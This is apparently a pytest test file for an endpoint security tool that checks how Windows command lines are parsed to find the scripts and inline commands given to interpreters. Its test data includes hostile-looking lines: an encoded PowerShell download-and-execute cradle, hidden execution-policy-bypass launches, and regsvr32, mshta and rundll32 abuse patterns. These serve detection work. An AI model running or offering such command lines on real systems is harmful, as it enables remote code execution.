"""What interpreters of Windows were given to run."""

import base64

import pytest

from quetsach.endpoint.collect.windows.commands import Given, given_to_run

ENCODED = base64.b64encode(r"& 'C:\Users\An\AppData\x.ps1' -q".encode("utf-16-le")).decode()
DOWNLOAD = base64.b64encode("iex(iwr http://203.0.113.7/a)".encode("utf-16-le")).decode()


def _files(program: str, line: str) -> list[str]:
    return [given.text for given in given_to_run(program, line) if given.is_file]


def _commands(program: str, line: str) -> list[str]:
    return [given.text for given in given_to_run(program, line) if not given.is_file]


@pytest.mark.parametrize(
    ("program", "line", "files"),
    [
        ("wscript.exe", r'wscript.exe //B //E:vbscript "C:\Hồ sơ\x.dat" /arg', [r"C:\Hồ sơ\x.dat"]),
        (r"C:\Windows\SysWOW64\CScript.EXE", r"cscript C:\a.js", [r"C:\a.js"]),
        ("/Windows/System32/mshta.exe", r'mshta "C:\a b.hta" x', [r"C:\a b.hta"]),
        ("hh.exe", r"hh C:\a.chm", [r"C:\a.chm"]),
        ("rundll32.exe", r'"rundll32.exe" "C:\x y.dat",Run 1', [r"C:\x y.dat"]),
        ("rundll32.exe", r"rundll32 ~$WT.FAT32,_ldr@16 desktop.ini", ["~$WT.FAT32"]),
        ("control.exe", r"control C:\x.cpl,@0", [r"C:\x.cpl"]),
        ("regsvr32.exe", r"regsvr32 /s /n /u /i:C:\x.sct scrobj.dll", [r"C:\x.sct", "scrobj.dll"]),
        ("msiexec.exe", r"msiexec /qn /i C:\x.msi REBOOT=no", [r"C:\x.msi"]),
        ("msiexec.exe", r"msiexec /yC:\x.dll", [r"C:\x.dll"]),
        ("installutil.exe", r"installutil /logfile= C:\x.exe", [r"C:\x.exe"]),
        ("python3.13.exe", r"python -u -W ignore C:\x.pyw -c", [r"C:\x.pyw"]),
        ("pythonw.exe", "pythonw -m http.server", []),
        ("py.exe", "py -3.11 run.py", ["run.py"]),
        ("node.exe", r"node --require C:\a.js C:\b.js", [r"C:\a.js", r"C:\b.js"]),
        ("javaw.exe", r"javaw -Xmx1g -jar C:\x.jar a.jar", [r"C:\x.jar"]),
        ("java.exe", r"java -javaagent:C:\a.jar=x -cp C:\b.jar;C:\c Main d.jar", [r"C:\a.jar", r"C:\b.jar", r"C:\c"]),
        ("php.exe", r"php -d a=b -f C:\x.php", [r"C:\x.php"]),
        ("AutoIt3.exe", r"AutoIt3.exe /ErrorStdOut C:\x.a3x", [r"C:\x.a3x"]),
        ("powershell.exe", r"powershell -nop -w hidden -ep bypass -File C:\x.ps1 -File y.ps1", [r"C:\x.ps1"]),
        ("pwsh.exe", r"pwsh -NoLogo C:\x.ps1", [r"C:\x.ps1"]),
        ("notepad.exe", r"notepad C:\x.vbs", []),
        ("explorer.exe", r"explorer C:\x.exe", []),
        ("", "", []),
    ],
)
def test_files_that_are_given(program: str, line: str, files: list[str]) -> None:
    assert _files(program, line) == files


@pytest.mark.parametrize(
    ("program", "line", "commands"),
    [
        ("cmd.exe", r'cmd.exe /d /s /c "start C:\x.bat"', [r"start C:\x.bat"]),
        ("cmd.exe", r"cmd /q/cC:\x.bat 1", [r"C:\x.bat 1"]),
        ("cmd.exe", r"cmd C:\x.bat /c", []),
        ("powershell.exe", r'powershell -c "& C:\x.ps1"', [r"& C:\x.ps1"]),
        ("powershell.exe", f"powershell -WindowStyle Hidden -enc {ENCODED}", [r"& 'C:\Users\An\AppData\x.ps1' -q"]),
        ("powershell.exe", f"powershell /e {DOWNLOAD.rstrip('=')}", ["iex(iwr http://203.0.113.7/a)"]),
        ("powershell.exe", f"powershell \u2013EC {DOWNLOAD}", ["iex(iwr http://203.0.113.7/a)"]),
        ("powershell.exe", "powershell -e ?", []),
        ("powershell.exe", r"powershell . C:\x.ps1", [r". C:\x.ps1"]),
        ("mshta.exe", r"""mshta vbscript:Execute("run C:\x.exe")""", [r"""vbscript:Execute("run C:\x.exe")"""]),
        ("python.exe", r"""python -c "exec(open('C:\x'))" y.py""", [r"exec(open('C:\x'))"]),
        ("node.exe", r"node -e require('C:\\x') y.js", [r"require('C:\\x')"]),
        ("conhost.exe", r"conhost --headless C:\x.exe", [r"--headless C:\x.exe"]),
    ],
)
def test_commands_that_are_given(program: str, line: str, commands: list[str]) -> None:
    assert _commands(program, line) == commands


def test_a_command_inside_a_command_is_read() -> None:
    line = f"cmd /c cmd.exe /c powershell -enc {ENCODED}"
    assert r"& 'C:\Users\An\AppData\x.ps1' -q" in _commands("cmd.exe", line)


def test_a_command_inside_itself_ends() -> None:
    assert len(given_to_run("cmd.exe", "cmd /c " * 5000)) < 8


def test_each_is_given_once() -> None:
    assert given_to_run("regsvr32", "regsvr32 a.dll a.dll") == (Given("a.dll", is_file=True),)
